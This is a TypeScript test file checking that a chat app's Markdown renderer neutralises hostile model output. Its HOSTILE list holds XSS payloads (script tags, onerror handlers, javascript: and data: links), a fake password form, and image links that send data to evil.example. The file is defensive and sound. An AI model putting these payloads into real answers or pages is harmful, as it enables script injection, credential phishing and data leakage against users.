import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";
import { RichText } from "./rich-text.tsx";

const render = (text: string) => renderToStaticMarkup(<RichText text={text} />);

/** What an attacker who controls an answer may try. */
const HOSTILE: [name: string, answer: string][] = [
  ["a script", "<script>alert(1)</script>"],
  ["a script in a paragraph", "Hello <script src=https://evil.example/x.js></script> you"],
  ["an event handler", '<img src=x onerror="alert(1)">'],
  ["a broken tag", '<img src=x onerror="alert(1)"'],
  ["a frame", '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>'],
  ["a style element", "<style>body{background:url(https://evil.example/leak)}</style>"],
  ["a style attribute", '<p style="position:fixed;inset:0">Log in again</p>'],
  ["a picture that is a program", "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>"],
  ["a form", '<form action="https://evil.example"><input name=password><button>Log in</button></form>'],
  ["a page that moves on", '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ["another base", '<base href="https://evil.example/">'],
  ["a link that runs", "[click](javascript:alert(1))"],
  [
    "a link that runs, in disguise",
    "[click](JaVaScRiPt:alert(1)) [click](java\tscript:alert(1)) [a](&#106;avascript:alert(1))",
  ],
  ["a link that runs, by reference", "[click][1]\n\n[1]: javascript:alert(1)"],
  ["a link that runs, bare", "<javascript:alert(1)>"],
  ["a page in an address", "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"],
  ["a script of another kind", "[click](vbscript:msgbox(1)) [click](file:///etc/passwd) [click](blob:https://x/y)"],
  ["a link into the product", "[click](/logout) [click](//evil.example) [click](?theme=dark) [click](#composer)"],
  ["an image that reports", "![chart](https://evil.example/leak?q=secret)"],
  ["an image that reports, by reference", "![chart][1]\n\n[1]: https://evil.example/leak?q=secret"],
  ["an image in a link", "[![x](https://evil.example/a.png)](javascript:alert(1))"],
  ["an image that is a page", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"],
  ["HTML in a table", "| a | b |\n| :-- | --: |\n| <img src=x onerror=alert(1)> | ![](https://evil.example/1) |"],
  [
    "HTML in a heading and a list",
    "# <script>x</script>\n\n- <iframe src=x>\n- [x] <input autofocus onfocus=alert(1)>",
  ],
  ["a language that is markup", '```"><script>alert(1)</script>\ncode\n```'],
  ["code that is markup", "```html\n<script>alert(1)</script>\n```"],
  ["a fence without an end", "```js\nconst a = '</code></pre><script>alert(1)</script>'"],
  ["a footnote that runs", "Hello[^1]\n\n[^1]: [x](javascript:alert(1)) <img src=x onerror=alert(1)>"],
  ["a comment with a script", "<!--><script>alert(1)</script>-->"],
  ["an unknown element", "<x-widget onclick=alert(1) href=javascript:alert(1)>hi</x-widget>"],
];

const ELEMENTS = new Set(
  "a blockquote br button code del div em h3 h4 h5 h6 hr li ol p path pre rect span strong sup svg table tbody td th thead tr ul".split(
    " ",
  ),
);
const ATTRIBUTES = new Set(
  "aria-hidden aria-label class dir fill height href rel role rx ry start stroke stroke-linecap stroke-linejoin stroke-width tabindex target type viewbox width x y d".split(
    " ",
  ),
);

describe("nothing that a model writes runs, loads or leaves", () => {
  test.for(HOSTILE)("%s", ([, answer]) => {
    const page = parse(render(answer));
    expect(page.elements.filter(({ name }) => !ELEMENTS.has(name))).toEqual([]);
    const attributes = page.elements.flatMap((element) => Object.keys(element.attributes));
    expect(attributes.filter((name) => !ATTRIBUTES.has(name))).toEqual([]);
    for (const { attributes: given } of page.elements.filter(({ name }) => name === "a")) {
      expect(given["href"]).toMatch(/^(https?:\/\/|mailto:)/);
      expect(given).toMatchObject({ target: "_blank", rel: "noopener noreferrer nofollow" });
    }
    for (const { attributes: given } of page.elements.filter(({ name }) => name === "button")) {
      expect(given["type"]).toBe("button");
    }
  });

  test("and the corpus would be noticed: raw, most of it is more than text", () => {
    const raw = HOSTILE.filter(([, answer]) => parse(answer).elements.some(({ name }) => !ELEMENTS.has(name)));
    expect(raw.length).toBeGreaterThan(15);
  });
});

const ODD: [name: string, answer: string][] = [
  ["a megabyte of words", "word ".repeat(200_000)],
  ["a megabyte without a space", "a".repeat(1_000_000)],
  ["a megabyte of code without an end", `\`\`\`js\n${"let a = 1;\n".repeat(90_000)}`],
  ["a megabyte of paragraphs", "Some words of a paragraph.\n\n".repeat(35_000)],
  ["quotes in quotes", `${"> ".repeat(5_000)}deep`],
  ["lists in lists", Array.from({ length: 500 }, (_, depth) => `${"  ".repeat(depth)}- deeper`).join("\n")],
  ["brackets that never close", "[".repeat(20_000)],
  ["images that never close", "![".repeat(10_000)],
  ["stars without an end", "*a **b ".repeat(2_500)],
  ["backticks", "`".repeat(20_000)],
  ["a table of 2,000 rows", `| a | b |\n| - | - |\n${"| 1 | 2 |\n".repeat(2_000)}`],
  ["a table of 500 columns", `|${" a |".repeat(500)}\n|${" - |".repeat(500)}\n|${" 1 |".repeat(500)}`],
];

describe("what is odd can be read", () => {
  test("raw HTML is shown as it was written", () => {
    expect(render("a <b>c</b>")).toContain("a &lt;b&gt;c&lt;/b&gt;");
  });

  test.for(ODD)("%s", ([, answer]) => {
    const words = render(answer).replace(/<[^>]*>/g, "");
    expect(words.length).toBeGreaterThan(0);
  });

  test("each part finds its own direction, and what turns the direction of text does not leak out of it", () => {
    const page = parse(render("שלום עולם\n\nHello\u202e there\n\n\u200bzero\u200dwidth"));
    expect(page.elements.filter(({ attributes }) => attributes["dir"] === "auto")).toHaveLength(3);
  });
});

describe("Markdown is set as it was meant", () => {
  test("code has its language and a button, tables their alignment, lists their numbers", () => {
    const html = render(
      "```sql\nSELECT 1;\n```\n\n| a | b |\n| - | --: |\n| x | 1 |\n\n3. three\n4. four\n\n- [x] done\n- [ ] open",
    );
    expect(html).toContain(">sql</span>");
    expect(html).toContain('aria-label="Copy sql code"');
    expect(html).toMatch(/<td class="text-right[^"]*">1<\/td>/);
    expect(html).toContain('<ol start="3">');
    expect(html).toContain('aria-label="done"');
    expect(html).toContain('aria-label="to do"');
  });

  test("formulas stay as they were written", () => {
    for (const formula of [
      "\\(x_1 * y_1 * z\\)",
      "\\[\n\\sum_{i=1}^n *a* _b_\n\\]",
      "$$a_1 \\\\ b_1$$",
      "$x^*_1 + y^*_2$",
    ]) {
      const words = parse(render(`Take ${formula} here.`)).text;
      expect(words.replace(/\s+/g, " ")).toContain(formula.replace(/\s+/g, " "));
    }
  });

  test("prices are no formulas, and code keeps its dollars", () => {
    expect(render("It costs $5, **not** $10.")).toContain("<strong>not</strong>");
    expect(parse(render("Run `echo $HOME_x $PATH_y`.")).text).toContain("echo $HOME_x $PATH_y");
  });
});

type Element = { name: string; attributes: Record<string, string> };

/** The elements and the words of some HTML, read as leniently as a browser does. */
function parse(html: string): { elements: Element[]; text: string } {
  const elements = [
    ...html.matchAll(/<([a-z][\w-]*)((?:\s+[^\s=>]+(?:=(?:"[^"]*"|'[^']*'|[^\s>]*))?)*)\s*\/?>?/gi),
  ].map(([, name = "", attributes = ""]) => ({
    name: name.toLowerCase(),
    attributes: Object.fromEntries(
      [...attributes.matchAll(/([^\s=]+)(?:=(?:"([^"]*)"|'([^']*)'|(\S*)))?/g)].map(([, key = "", a, b, c]) => [
        key.toLowerCase(),
        a ?? b ?? c ?? "",
      ]),
    ),
  }));
  const text = html
    .replace(/<[^>]*>/g, "")
    .replace(/&lt;/g, "<")
    .replace(/&gt;/g, ">")
    .replace(/&quot;/g, '"')
    .replace(/&#x27;/g, "'")
    .replace(/&amp;/g, "&");
  return { elements, text };
}
